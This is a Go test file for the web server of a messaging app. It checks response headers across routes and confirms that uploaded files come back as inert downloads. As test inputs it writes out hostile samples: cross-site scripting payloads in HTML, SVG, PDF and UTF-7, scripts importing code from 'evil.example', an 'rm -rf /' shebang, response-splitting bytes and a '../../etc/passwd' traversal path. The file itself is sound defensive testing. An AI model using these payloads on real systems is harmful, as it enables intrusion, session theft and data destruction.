package doors

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/veche-im/veche/internal/testenv"
	"github.com/veche-im/veche/server"
	"github.com/veche-im/veche/wire"
)

// The headers of every route's answers, good and bad, as they are. What all have
// stands once at the top.
func TestWhatHeadersAnswersHave(t *testing.T) {
	site := testenv.Start(t, testenv.WithWeb(app), testenv.WithConfig(func(c *server.Config) { c.Contact = "mailto:security@example.org" }))
	ann := site.SetUpPerson("Ann")
	blob := wire.PathBlob + uploadAs(t, site, ann.Token, []byte("<script>alert(1)</script>")).String()
	other := ann.AddDevice().Token
	type shot struct {
		method, path, what string
		body               any
		header             map[string]string
	}
	bearer := map[string]string{"Authorization": "Bearer " + ann.Token}
	with := func(k, v string) map[string]string {
		return map[string]string{"Authorization": "Bearer " + ann.Token, k: v}
	}
	in := wire.SignIn{Name: "Ann", Password: testenv.Password, Device: "x"}
	cookie := in
	cookie.Cookie = true
	shots := []shot{
		{"GET", wire.PathSite, "", nil, nil},
		{"POST", wire.PathLink, "an invite", wire.Link{Token: site.Invite()}, nil},
		{"POST", wire.PathLink, "none", wire.Link{Token: "x"}, nil},
		{"POST", wire.PathLink, "from another site", wire.Link{}, map[string]string{"Origin": "https://evil.example"}},
		{"POST", wire.PathSetup, "no link", wire.SignUp{Token: "x", Org: "x", Name: "x", Password: testenv.Password}, nil},
		{"POST", wire.PathSignup, "an invite", wire.SignUp{Token: site.Invite(), Name: "Bob", Password: testenv.Password, Device: "x", Cookie: true}, nil},
		{"POST", wire.PathSignin, "for a token", in, nil},
		{"POST", wire.PathSignin, "for a cookie", cookie, nil},
		{"POST", wire.PathSignin, "wrong", wire.SignIn{Name: "Ann", Password: wrong}, nil},
		{"POST", wire.PathReset, "no link", wire.Reset{Token: "x", Password: testenv.Password}, nil},
		{"POST", wire.PathPassword, "for who came with a token", wire.ChangePassword{Old: testenv.Password, New: testenv.Password}, bearer},
		{"POST", wire.PathPassword, "for who came with a cookie", wire.ChangePassword{Old: testenv.Password, New: testenv.Password}, map[string]string{"Cookie": wire.CookieName + "=" + ann.Token}},
		{"POST", wire.PathPassword, "wrong", wire.ChangePassword{Old: wrong, New: testenv.Password}, bearer},
		{"POST", wire.PathPassword, "from another site", wire.ChangePassword{Old: testenv.Password, New: testenv.Password}, with("Origin", "https://evil.example")},
		{"POST", wire.PathProve, "", wire.Prove{Password: testenv.Password}, bearer},
		{"POST", wire.PathProve, "without a session", wire.Prove{Password: testenv.Password}, nil},
		{"POST", wire.PathSignout, "", struct{}{}, map[string]string{"Authorization": "Bearer " + other}},
		{"POST", wire.PathSignout, "without a session", struct{}{}, nil},
		{"GET", wire.PathSession, "", nil, bearer},
		{"GET", wire.PathSession, "without a session", nil, nil},
		{"GET", wire.PathSocket, "without a session", nil, nil},
		{"GET", wire.PathSocket, "without an upgrade", nil, bearer},
		{"GET", wire.PathSocket, "from another site", nil, with("Origin", "https://evil.example")},
		{"POST", wire.PathBlobs, "", wire.NewBlob{Size: 1}, bearer},
		{"POST", wire.PathBlobs, "over the quota", wire.NewBlob{Size: wire.MaxBlob + 1}, bearer},
		{"GET", blob, "", nil, bearer},
		{"HEAD", blob, "", nil, bearer},
		{"GET", blob, "a part", nil, with("Range", "bytes=1-3")},
		{"GET", blob, "parts", nil, with("Range", "bytes=1-3,5-6")},
		{"GET", blob, "no such part", nil, with("Range", "bytes=1000-")},
		{"GET", blob, "without a session", nil, nil},
		{"GET", wire.PathBlob + wire.NewBlobID().String(), "no such file", nil, bearer},
		{"GET", blob + "/state", "", nil, bearer},
		{"PUT", blob + "?offset=0", "complete", []byte("x"), bearer},
		{"DELETE", blob, "", nil, bearer},
		{"GET", "/ca.crt", "", nil, nil},
		{"GET", "/.well-known/security.txt", "", nil, nil},
		{"GET", "/healthz", "", nil, nil},
		{"GET", "/readyz", "", nil, nil},
		{"GET", "/api/x", "", nil, nil},
		{"GET", "/", "", nil, nil},
		{"GET", "/assets/main-Ab3dEf9h.js", "", nil, nil},
		{"GET", "/sw.js", "", nil, nil},
		{"GET", "/none.js", "", nil, nil},
		{"GET", "//a/../b", "", nil, nil},
		{"DELETE", "/healthz", "", nil, nil},
		{"GET", "/ca.crt/../../etc/passwd", "", nil, nil},
	}
	common := map[string]string{}
	var b bytes.Buffer
	for n, s := range shots {
		var body io.Reader = http.NoBody
		if s.body != nil {
			raw, ok := s.body.([]byte)
			if !ok {
				raw, _ = json.Marshal(s.body)
			}
			body = bytes.NewReader(raw)
		}
		req, err := http.NewRequest(s.method, site.Info.HTTPS+s.path, body)
		if err != nil {
			t.Fatal(err)
		}
		if s.method == "POST" {
			req.Header.Set("Content-Type", "application/json")
		}
		for k, v := range s.header {
			req.Header.Set(k, v)
		}
		resp, err := site.HTTP.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		drain(resp)
		if n == 0 { // an ordinary answer: what it has all have
			fmt.Fprint(&b, "# The headers of every answer. Written by go test ./test/doors -update.\n\nall answers, unless said otherwise\n")
			for _, k := range slices.Sorted(maps.Keys(resp.Header)) {
				if k != "Content-Type" && k != "Content-Length" && k != "Date" {
					common[k] = resp.Header.Get(k)
					fmt.Fprintf(&b, "    %s: %s\n", k, common[k])
				}
			}
		}
		fmt.Fprintf(&b, "\n%s %s", s.method, steady(s.path))
		if s.what != "" {
			fmt.Fprintf(&b, " (%s)", s.what)
		}
		fmt.Fprintf(&b, "\n    %d\n", resp.StatusCode)
		for k := range common {
			if resp.Header.Get(k) == "" {
				fmt.Fprintf(&b, "    %s IS MISSING\n", k)
			}
		}
		for _, k := range slices.Sorted(maps.Keys(resp.Header)) {
			for _, v := range resp.Header[k] {
				if k != "Date" && (k != "Content-Length" || s.path != "/ca.crt") && v != common[k] {
					fmt.Fprintf(&b, "    %s: %s\n", k, steady(v))
				}
			}
		}
	}
	golden(t, "headers.golden", b.Bytes())
}

var changing = []struct {
	what *regexp.Regexp
	to   string
}{
	{regexp.MustCompile(`blobs/[a-z2-7]{26}`), "blobs/{id}"},
	{regexp.MustCompile(`(__Host-veche(-known)?)=[A-Za-z0-9_-]+`), "$1=SECRET"},
	{regexp.MustCompile(`boundary=[0-9a-f]+`), "boundary=…"},
	{regexp.MustCompile(`"[A-Za-z0-9_-]{20}"`), `"…"`},
}

// steady replaces what differs from run to run.
func steady(s string) string {
	for _, c := range changing {
		s = c.what.ReplaceAllString(s, c.to)
	}
	return s
}

// uploadAs uploads bytes as somebody.
func uploadAs(t *testing.T, site *testenv.Site, token string, content []byte) wire.BlobID {
	t.Helper()
	var st wire.BlobState
	if s, e := site.Post(wire.PathBlobs, token, wire.NewBlob{Size: int64(len(content))}, &st); e != nil {
		t.Fatal(s, e)
	}
	if s, e := site.Do("PUT", wire.PathBlob+st.Blob.String()+"?offset=0", token, "", content, nil); e != nil {
		t.Fatal(s, e)
	}
	return st.Blob
}

// Bytes that a browser would like to run come back as bytes, whatever they are,
// whatever is asked for, and by whichever door.
func TestFilesRunNowhere(t *testing.T) {
	site := testenv.Start(t, testenv.WithWeb(app))
	ann := site.SetUpPerson("Ann")
	for name, content := range map[string]string{
		"HTML":                      "<!doctype html><script>alert(document.cookie)</script>",
		"SVG":                       `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`,
		"PDF with JavaScript":       "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
		"a script":                  "self.onmessage=()=>importScripts('https://evil.example/x.js')",
		"a service worker":          "self.addEventListener('fetch',e=>e.respondWith(new Response('gone')))",
		"wasm":                      "\x00asm\x01\x00\x00\x00",
		"GIF and script":            "GIF89a/*\x01\x00*/=1;alert(1)//",
		"JPEG and HTML":             "\xff\xd8\xff\xfe\x00\x20<html><script>alert(1)</script>",
		"a manifest":                `{"start_url":"https://evil.example"}`,
		"a style sheet":             "@import 'https://evil.example/x.css'",
		"HTML after a byte order":   "\xef\xbb\xbf<html onload=alert(1)>",
		"HTML in UTF-7":             "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
		"XML with a style sheet":    `<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><x/>`,
		"MHTML":                     "MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script>alert(1)</script>",
		"a shebang":                 "#!/bin/sh\nrm -rf /\n",
		"headers and a second body": "\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
	} {
		path := wire.PathBlob + uploadAs(t, site, ann.Token, []byte(content)).String()
		for _, door := range []string{site.Info.HTTPS, site.Info.HTTP} {
			for _, h := range []map[string]string{{}, {"Accept": "text/html"}, {"Range": "bytes=0-"}, {"Range": "bytes=0-3,4-6"},
				{"Sec-Fetch-Dest": "document"}, {"Sec-Fetch-Dest": "script"}, {"Sec-Fetch-Dest": "serviceworker", "Service-Worker": "script"}} {
				for _, query := range []string{"", "?x=.html", "?content-type=text/html&response-content-type=text/html"} {
					req, err := http.NewRequest("GET", door+path+query, nil)
					if err != nil {
						t.Fatal(err)
					}
					req.Header.Set("Authorization", "Bearer "+ann.Token)
					for k, v := range h {
						req.Header.Set(k, v)
					}
					resp, err := site.HTTP.Do(req)
					if err != nil {
						t.Fatal(err)
					}
					b, err := io.ReadAll(resp.Body)
					resp.Body.Close()
					if err != nil {
						t.Fatal(err)
					}
					kind, get := resp.Header.Get("Content-Type"), resp.Header.Get
					parts := strings.HasPrefix(kind, "multipart/byteranges;") && strings.Contains(string(b), "Content-Type: "+wire.MIMEBlob)
					if kind != wire.MIMEBlob && !parts || get("Content-Disposition") != "attachment" || get("X-Content-Type-Options") != "nosniff" ||
						get("Content-Security-Policy") != "default-src 'none'; frame-ancestors 'none'; sandbox" || get("Cross-Origin-Resource-Policy") != "same-origin" ||
						get("Service-Worker-Allowed") != "" || len(resp.Header["Content-Type"]) != 1 {
						t.Errorf("%s as %v%s: %d %v", name, h, query, resp.StatusCode, resp.Header)
					}
					if len(h) == 0 && string(b) != content {
						t.Errorf("%s came back as %q", name, b)
					}
				}
			}
		}
	}
	// No path of the app's own leads to a file, and no file of a message to a page.
	id := strings.TrimPrefix(wire.PathBlob, "/")
	for _, path := range []string{"/" + id + "x.html", "/assets/../" + id + "x", "/blobs/x.js", wire.PathBlob + "index.html", wire.PathBlob + "%2e%2e/%2e%2e/%2e%2e/index.html"} {
		req, _ := http.NewRequest("GET", site.Info.HTTPS+path, nil)
		req.Header.Set("Authorization", "Bearer "+ann.Token)
		resp, err := site.HTTP.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode == 200 && strings.Contains(string(b), "app") {
			t.Errorf("%s: %d %q", path, resp.StatusCode, b)
		}
	}
}
